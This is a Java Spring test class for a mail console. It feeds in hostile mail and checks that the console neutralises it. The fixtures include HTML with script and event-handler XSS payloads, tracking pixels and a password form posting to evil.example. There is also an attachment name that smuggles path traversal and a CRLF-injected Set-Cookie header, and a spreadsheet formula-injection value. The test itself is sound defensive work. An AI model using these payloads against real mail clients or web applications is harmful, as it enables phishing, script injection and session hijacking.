package vn.vanthu.console.register;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.security.crypto.password.PasswordEncoder;
import org.springframework.test.web.servlet.MockMvc;
import vn.vanthu.console.ConsoleTest;
import vn.vanthu.console.StaffSession;
import vn.vanthu.console.access.Accounts;
import vn.vanthu.console.access.Role;
import vn.vanthu.mailbox.Arrival;
import vn.vanthu.mailbox.Keeping;
import vn.vanthu.mailbox.MailFilter;
import vn.vanthu.mailbox.MailStatus;
import vn.vanthu.mailbox.Mails;
import vn.vanthu.mailbox.Numbering;

/** Mail that wants to do something to whoever looks at it. */
@ConsoleTest
class HostileMailTest {
  private static final AtomicLong UID = new AtomicLong();
  private static final String BOUNDARY = "=_b";
  private static final MailFilter ANY = new MailFilter(Optional.empty(), Optional.empty());
  private static final MailFilter DONE =
      new MailFilter(Optional.empty(), Optional.of(MailStatus.DONE));

  @Autowired MockMvc mvc;
  @Autowired Keeping keeping;
  @Autowired Mails mails;
  @Autowired Accounts accounts;
  @Autowired PasswordEncoder encoder;

  private MockHttpSession session;

  @BeforeEach
  void signIn() throws Exception {
    if (accounts.find("xem").isEmpty()) {
      accounts.open("xem", encoder.encode("right-password"), Role.CLERK, "", "", false);
    }
    session = StaffSession.of(mvc, "xem");
  }

  @Test
  void nothing_in_a_mails_html_runs_asks_or_tells_anybody_that_it_was_read() throws Exception {
    long id =
        arrives(
            html(
                "Xem ngay",
                """
                <html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
                <style>body{background:url(http://evil.example/css)}</style><link rel="stylesheet" href="http://evil.example/a.css"></head>
                <body onload="alert(1)" background="http://evil.example/bg"><script>alert(2)</script>
                <img src="http://evil.example/pixel.gif" width="1" height="1" onerror="alert(3)">
                <form action="http://evil.example/steal"><input name="password"><button>Đăng nhập</button></form>
                <iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object>
                <svg><script>alert(4)</script></svg><video src="http://evil.example/v" autoplay></video>
                <a href="javascript:alert(5)">bấm vào đây</a> <a href="http://evil.example/">ngân hàng</a>
                <p style="position:fixed;top:0" onclick="alert(6)">Kính gửi <b>LĐLĐ</b></p></body></html>
                """));

    MockHttpServletResponse frame = response("/register/" + id + "/html");
    assertThat(frame.getHeader("Content-Security-Policy"))
        .contains("sandbox", "default-src 'none'", "form-action 'none'")
        .doesNotContain("allow-scripts", "allow-same-origin");
    String shown = frame.getContentAsString(StandardCharsets.UTF_8);
    assertThat(shown).contains("Kính gửi", "<b>LĐLĐ</b>", "ngân hàng", "evil.example");
    assertThat(shown)
        .doesNotContainPattern(
            "(?i)<(script|form|input|button|iframe|object|svg|video|base|img|style)")
        .doesNotContainPattern("(?i)\\s(on[a-z]+|style|background|srcset)=")
        .doesNotContainPattern("(?i)(href|src)=\"?(javascript|http)")
        .doesNotContain("http-equiv");
    assertThat(page("/register/" + id))
        .contains("sandbox=\"\"")
        .doesNotContain("evil.example/pixel");
  }

  @Test
  void ten_megabytes_of_markup_are_shown_in_part_and_at_once() {
    String rows = "<table>" + "<tr><td><b><i>x</i></b></td></tr>".repeat(330_000);

    long before = System.nanoTime();
    String shown = SafeHtml.page("<p>Kính gửi</p>" + rows, "hình", "/console/mail.css");
    assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(10));
    assertThat(shown).contains("Kính gửi").hasSizeLessThan(2_000_000);
  }

  @Test
  void an_svg_with_a_script_is_only_ever_a_download_of_no_type() throws Exception {
    long id =
        arrives(
            mixed(
                "image/svg+xml; name=\"anh.svg\"",
                "attachment; filename=\"anh.svg\"",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));

    MockHttpServletResponse file = response("/register/" + id + "/files/" + file(id, "anh.svg"));
    assertThat(file.getContentType()).isEqualTo("application/octet-stream");
    assertThat(file.getHeader("Content-Disposition")).startsWith("attachment");
    assertThat(file.getHeader("Content-Security-Policy")).contains("sandbox");
    assertThat(file.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
  }

  @Test
  void a_files_name_cannot_turn_itself_round_break_a_header_or_leave_its_folder() throws Exception {
    String name = "..%2Fbao%E2%80%AEcao%07%0D%0ASet-Cookie%3A%20a%3Db%E2%81%A6xcod.exe";
    long id =
        arrives(
            mixed(
                "application/octet-stream",
                "attachment; filename*=UTF-8''" + name,
                "không phải tệp Word"));

    MockHttpServletResponse file = response("/register/" + id + "/files/" + file(id, "xcod.exe"));
    assertThat(file.getHeader("Set-Cookie")).isNull();
    assertThat(file.getHeader("Content-Disposition"))
        .doesNotContainPattern("[\\p{Cntrl}\\u202A-\\u202E\\u2066-\\u2069]")
        .doesNotContain("%E2%80%AE", "%0D", "%0A", "../", "..%2F");
    assertThat(page("/register/" + id)).doesNotContainPattern("[\\u202A-\\u202E\\u2066-\\u2069]");
  }

  @Test
  void an_export_of_everything_holds_every_mail_and_no_formula() throws Exception {
    arrives(plain("=HYPERLINK(\"http://evil.example\")", "x"));
    arrives(plain("+84 912 345 678", "x"));
    IntStream.range(0, 3).forEach(i -> quietly(plain("Thư thường " + i, "x")));

    String csv = page("/register/export.csv");
    assertThat(csv)
        .contains("\"'=HYPERLINK(\"\"http://evil.example\"\")\"", "\"'+84 912 345 678\"");
    long all = mails.count(ANY);
    assertThat(csv.lines().count()).isEqualTo(all + 1);
    assertThat(csv).doesNotContainPattern("(?m)(^|,)\"[=+@\\t\\r]");
  }

  /** The place of a file among those of a mail, as its page links it. */
  private int file(long id, String endOfName) throws Exception {
    String page = page("/register/" + id);
    for (int i = 0; i < 5; i++) {
      if (page.contains("/register/" + id + "/files/" + i)
          && String.valueOf(
                  response("/register/" + id + "/files/" + i).getHeader("Content-Disposition"))
              .contains(endOfName)) {
        return i;
      }
    }
    throw new AssertionError("no such file on the page: " + endOfName);
  }

  private String page(String path) throws Exception {
    return response(path).getContentAsString(StandardCharsets.UTF_8);
  }

  private MockHttpServletResponse response(String path) throws Exception {
    MockHttpServletResponse response =
        mvc.perform(get(path).session(session)).andReturn().getResponse();
    assertThat(response.getStatus()).as(path).isEqualTo(200);
    return response;
  }

  private void quietly(String mail) {
    try {
      arrives(mail);
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private long arrives(String mail) throws IOException {
    long uid = UID.incrementAndGet();
    byte[] bytes = mail.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8);
    keeping.keep(
        new Arrival(
            new Numbering("hostile", "INBOX", 1, 0),
            uid,
            Optional.of(Instant.parse("2022-06-14T02:00:00Z")),
            false,
            out -> out.write(bytes)));
    return await()
        .atMost(Duration.ofSeconds(90))
        .until(
            () ->
                mails.page(DONE, 0, 500).stream()
                    .filter(m -> m.uid() == uid && m.mailbox().equals("hostile"))
                    .findFirst(),
            Optional::isPresent)
        .orElseThrow()
        .id()
        .value();
  }

  private static String head(String subject, String type) {
    return """
    From: "Ai do" <ai-do@evil.example>
    To: baocao@localhost
    Subject: %s
    Date: Tue, 14 Jun 2022 09:00:00 +0700
    Message-ID: <%d@evil.example>
    MIME-Version: 1.0
    Content-Type: %s

    """
        .formatted(subject, UID.get(), type);
  }

  private static String plain(String subject, String body) {
    return head(subject, "text/plain; charset=utf-8") + body + "\n";
  }

  private static String html(String subject, String body) {
    return head(subject, "text/html; charset=utf-8") + body;
  }

  private static String mixed(String type, String disposition, String content) {
    return head("Tệp", "multipart/mixed; boundary=\"" + BOUNDARY + "\"")
        + """
        --%1$s
        Content-Type: text/plain; charset=utf-8

        Xin gửi tệp.
        --%1$s
        Content-Type: %2$s
        Content-Disposition: %3$s

        %4$s
        --%1$s--
        """
            .formatted(BOUNDARY, type, disposition, content);
  }
}
